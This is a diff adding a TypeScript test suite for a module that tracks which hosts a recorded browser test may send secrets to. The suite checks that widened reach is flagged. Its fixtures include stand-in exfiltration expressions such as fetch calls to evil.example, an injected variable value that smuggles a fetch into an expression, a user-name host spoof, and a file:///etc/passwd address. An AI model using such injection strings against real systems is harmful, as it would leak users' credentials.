@@ -1,0 +1,113 @@
+import { describe, expect, test } from 'bun:test'
+import { beyondReach, checkSecretHosts, secretHostOf, secretReach } from './secret-reach.ts'
+
+const TYPE = { type: 'change', selectors: ['#pass'], value: '{{password}}' }
+const open = (url: string, more: object = {}) => ({ type: 'navigate', url, ...more })
+const waitFor = (expression: string) => ({ type: 'waitForExpression', expression })
+const BASE = {
+  recording: { title: 'Buy', steps: [open('https://shop.example/'), TYPE] },
+  startUrl: null as string | null,
+  secretHosts: [] as string[],
+}
+const VALUES = {
+  variables: { path: 'a', host: 'shop.example' },
+  secrets: { password: 'p', base: 'https://in.example' },
+}
+type Change = Partial<typeof BASE> & { steps?: object[]; variables?: Record<string, string> }
+
+const reachOf = ({ steps, variables, ...change }: Change) => {
+  const recording = { title: 'Buy', steps: (steps ?? BASE.recording.steps) as { type: string }[] }
+  return secretReach({ ...BASE, recording, ...change }, { ...VALUES, variables: { ...VALUES.variables, ...variables } })
+}
+
+describe('hosts of a test', () => {
+  test.each<[string, Change, string[]]>([
+    ['the first page', {}, ['shop.example']],
+    ['www. makes no other host', { steps: [open('https://www.shop.example/')] }, ['shop.example']],
+    ['a port makes one', { steps: [open('http://shop.example:8080/')] }, ['shop.example:8080']],
+    ['the start page, and the recording’s', { startUrl: 'https://next.example/' }, ['shop.example', 'next.example']],
+    [
+      'a page that was recorded',
+      {
+        steps: [
+          open('https://shop.example/', { assertedEvents: [{ type: 'navigation', url: 'https://login.example/' }] }),
+        ],
+      },
+      ['shop.example', 'login.example'],
+    ],
+    [
+      'a tab or frame',
+      { steps: [open('https://shop.example/'), { ...TYPE, target: 'https://pay.example/card' }] },
+      ['shop.example', 'pay.example'],
+    ],
+    ['a variable', { steps: [open('https://{{host}}/{{path}}')] }, ['shop.example']],
+    ['a secret', { steps: [open('{{base}}/x')] }, ['in.example']],
+    [
+      'what is named',
+      { secretHosts: ['Login.Shop.Example', '[::1]:8080'] },
+      ['shop.example', 'login.shop.example', '[::1]:8080'],
+    ],
+    [
+      'odd recordings',
+      { steps: [open('https://shop.example/', { assertedEvents: [null, 3, { url: 7 }], target: 'main' })] },
+      ['shop.example'],
+    ],
+  ])('%s', (_what, change, hosts) => {
+    expect([...reachOf(change).hosts]).toEqual(hosts)
+  })
+})
+
+test.each<[string, Change, Change, RegExp | null]>([
+  ['nothing new', {}, { variables: { path: 'b' } }, null],
+  ['a host less', { startUrl: 'https://next.example/' }, {}, null],
+  ['another start page', {}, { startUrl: 'https://evil.example/' }, /evil\.example/],
+  ['the same host on another port', {}, { startUrl: 'https://shop.example:8443/' }, /shop\.example:8443/],
+  ['a host that ends alike', {}, { startUrl: 'https://evil-shop.example/' }, /evil-shop\.example/],
+  ['a subdomain', {}, { startUrl: 'https://x.shop.example/' }, /x\.shop\.example/],
+  ['a user name that looks like the host', {}, { startUrl: 'https://shop.example@evil.example/' }, /evil\.example/],
+  ['a named host', {}, { secretHosts: ['evil.example'] }, /evil\.example/],
+  [
+    'a variable',
+    { steps: [open('https://{{host}}/')] },
+    { steps: [open('https://{{host}}/')], variables: { host: 'evil.example' } },
+    /evil\.example/,
+  ],
+  [
+    'an expression',
+    {},
+    { steps: [open('https://shop.example/'), TYPE, waitFor('fetch("//evil.example")')] },
+    /expressions/,
+  ],
+  [
+    'a variable in an expression',
+    { steps: [open('https://shop.example/'), waitFor('a == "{{path}}"')] },
+    {
+      steps: [open('https://shop.example/'), waitFor('a == "{{path}}"')],
+      variables: { path: '"+fetch("//evil.example")+"' },
+    },
+    /expressions/,
+  ],
+  [
+    'the same expression',
+    { steps: [open('https://shop.example/'), waitFor('a')] },
+    { steps: [waitFor('a'), open('https://shop.example/')] },
+    null,
+  ],
+])('beyond what secrets are bound to: %s', (_what, before, after, reason) => {
+  const found = beyondReach(reachOf(before), reachOf(after))
+  if (reason === null) expect(found).toBeNull()
+  else expect(found).toMatch(reason)
+})
+
+test.each(['', 'https://shop.example', 'shop.example/a', 'a b', 'me@shop.example', 'a?b', 'shop.example:99999', '\\x'])(
+  'no host: %p',
+  (text) => {
+    expect(() => checkSecretHosts(['shop.example', text])).toThrow('secretHosts[1]: must be a host name')
+  },
+)
+
+test('what is no address on the web has no host', () => {
+  for (const address of ['about:blank', 'data:text/html,x', 'file:///etc/passwd', 'nonsense', '']) {
+    expect(secretHostOf(address)).toBeNull()
+  }
+})
